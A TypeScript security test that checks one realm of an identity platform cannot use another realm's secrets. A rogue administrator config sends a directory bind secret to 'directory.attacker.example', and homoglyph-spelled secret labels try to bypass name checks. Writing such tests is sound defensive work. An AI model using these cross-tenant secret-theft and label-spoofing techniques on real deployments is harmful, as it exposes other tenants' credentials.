import { saveJourney, saveRealm, scripted } from '../../../test/support/prepared-folder.ts'
import { answerStep, startJourney } from '../../../test/support/wire.ts'
import { type Attack, mustHold } from '../attack.ts'
import { createRogue, realmPath } from '../staff.ts'

const variables = {
  ESV_DIRECTORY_BETA_BIND: 'Beta-Directory-Secret',
  ESV_DIRECTORY_ALPHA_BIND: 'Alpha-Directory-Secret',
  ESV_SCRIPTED_NODE_SIGNING: 'Script-Secret',
}

/** Labels of secrets that the attacker may not use, and other spellings of the same variables. */
const labels = [
  'directory.beta.bind',
  'directory-beta-bind',
  'DIRECTORY_BETA_BIND',
  'd\u0131rectory.beta.bind',
  'D\u0131RECTORY.BETA.B\u0131ND',
  'scripted.node.signing',
  '\u017fcripted.node.\u017figning',
]

const failure = 'CaptchaEnterpriseNode.FAILURE'

/** A realm administrator and a journey author try to use the directory password of another realm. */
export const borrowedSecret: Attack = {
  name: 'borrowed-secret',
  defence: 'S07: nodes read secrets of directories and of scripts',
  goal: "the directory password of another realm, sent to the attacker's server",
  async prepare(stores) {
    await saveRealm(stores, '/beta')
    for (const [place, secretLabelIdentifier] of labels.entries()) {
      const show = `callbacksBuilder.textOutputCallback(0, String(nodeState.get("${failure}")))`
      await saveJourney(stores, `borrow ${place}`, {
        captcha: {
          type: 'product-CaptchaEnterpriseNode',
          config: {
            ...{ projectId: 'p', siteKey: 's', storeErrors: true, captchaUri: 'http://127.0.0.1:9' },
            secretLabelIdentifier,
          },
          to: { true: 'success', false: 'show' },
        },
        show: await scripted(stores, `borrowed ${place}`, show, { out: 'success' }),
      })
    }
  },
  async play(scene) {
    Object.assign(process.env, variables)
    try {
      await throughNodes(scene.url)
      const boss = await createRogue(scene, 'boss', ['realm-admin'], 'alpha')
      const settings = `${realmPath('alpha')}/realm-config/settings`
      const servers = ['directory.attacker.example']
      const names = [...labels, 'directory.alpha.bind', 'directory.beta--x.bind']
      for (const bindSecret of names) {
        const body = { directory: { servers, bindDn: 'cn=x', bindSecret } }
        const { status } = await boss.ask(settings, { method: 'PUT', body })
        mustHold(status >= 400, `${bindSecret} is sent to the attacker's server: ${status}`)
      }
      return `${names.length} labels were rejected for the realm's administrator, ${labels.length} for nodes`
    } finally {
      for (const name of Object.keys(variables)) delete process.env[name]
    }
  },
}

/** With a secret, the node would call the service. */
async function throughNodes(url: string): Promise<void> {
  for (const [place, label] of labels.entries()) {
    const page = await startJourney(url, `borrow ${place}`)
    const { body } = await answerStep(url, page, ['token'])
    mustHold(JSON.stringify(body).includes('INVALID_SECRET_KEY'), `a node got the secret of ${label}`)
  }
}
